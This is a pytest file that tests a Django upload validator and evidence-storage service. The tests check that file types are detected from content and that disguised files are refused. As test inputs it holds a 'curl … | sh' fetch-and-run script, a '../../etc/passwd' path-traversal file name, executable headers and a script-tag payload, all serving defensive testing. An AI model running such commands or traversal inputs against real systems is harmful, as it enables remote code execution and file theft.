from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.models import Organisation, User
from failure_regime.models import Concern, ConcernEvidence
from failure_regime.services.concerns import concern_evidence_add, concern_raise
from failure_regime.uploads import CSV, DOCX, JPEG, PDF, PNG, XLSX, check_upload
from tests.factories import sole_organisation

PDF_BYTES = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def office(prefix: str) -> bytes:
    # A fixed time inside the archive: the same bytes whenever each test process builds it.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in (("[Content_Types].xml", "<Types/>"), (f"{prefix}/document.xml", "<doc/>")):
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), text)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("report.pdf", PDF_BYTES, PDF),
        ("photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, PNG),
        ("photo.jpeg", b"\xff\xd8\xff\xe0" + b"\x00" * 20, JPEG),
        ("plan.docx", office("word"), DOCX),
        ("actions.xlsx", office("xl"), XLSX),
        ("actions.csv", b"ref,action,rag\nA1,Hire midwives,red\n", CSV),
    ],
    # Named by the file, not its bytes: parallel test processes must collect the same ids.
    ids=["pdf", "png", "jpeg", "docx", "xlsx", "csv"],
)
def test_it_reads_the_type_from_the_content(name: str, content: bytes, expected: object) -> None:
    assert check_upload(SimpleUploadedFile(name, content)) == expected


def test_an_executable_renamed_pdf_is_refused() -> None:
    with pytest.raises(ValidationError, match="must be a PDF"):
        check_upload(SimpleUploadedFile("report.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 100))


def test_an_empty_file_is_refused() -> None:
    with pytest.raises(ValidationError, match="is empty"):
        check_upload(SimpleUploadedFile("report.pdf", b""))


def test_an_oversized_file_is_refused(settings) -> None:
    settings.UPLOAD_MAX_BYTES = 1024
    with pytest.raises(ValidationError, match="larger than"):
        check_upload(SimpleUploadedFile("report.pdf", PDF_BYTES + b"0" * 2048))


def test_a_zip_that_is_not_an_office_file_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.exe", "MZ")
    with pytest.raises(ValidationError):
        check_upload(SimpleUploadedFile("plan.docx", buffer.getvalue()))


@pytest.mark.django_db
def test_a_bad_file_saves_nothing(inspector: User, provider: Organisation) -> None:
    with pytest.raises(ValidationError):
        concern_raise(
            actor=inspector,
            organisation=sole_organisation(inspector),
            provider=provider,
            source="media",
            summary="Reports",
            evidence=[SimpleUploadedFile("a.pdf", PDF_BYTES), SimpleUploadedFile("b.pdf", b"MZ\x90\x00")],
        )
    assert not Concern.objects.exists() and not ConcernEvidence.objects.exists()


@pytest.mark.django_db
def test_evidence_is_stored_under_a_generated_name(inspector: User, concern: Concern) -> None:
    evidence = concern_evidence_add(
        actor=inspector,
        organisation=sole_organisation(inspector),
        concern=concern,
        upload=SimpleUploadedFile("../../etc/passwd.pdf", PDF_BYTES),
    )
    assert evidence.original_name == "passwd.pdf"
    stored = str(evidence.file.name)
    assert "passwd" not in stored and stored.endswith(".pdf")


def test_a_script_renamed_pdf_is_refused() -> None:
    with pytest.raises(ValidationError):
        check_upload(SimpleUploadedFile("report.pdf", b"#!/bin/sh\ncurl http://example.invalid | sh\n"))


def test_a_script_named_csv_is_refused() -> None:
    with pytest.raises(ValidationError):
        check_upload(SimpleUploadedFile("actions.csv", b"#!/bin/sh\necho a,b\n"))


def test_html_named_csv_is_refused() -> None:
    with pytest.raises(ValidationError):
        check_upload(SimpleUploadedFile("actions.csv", b"<script>alert(1)</script>\n"))
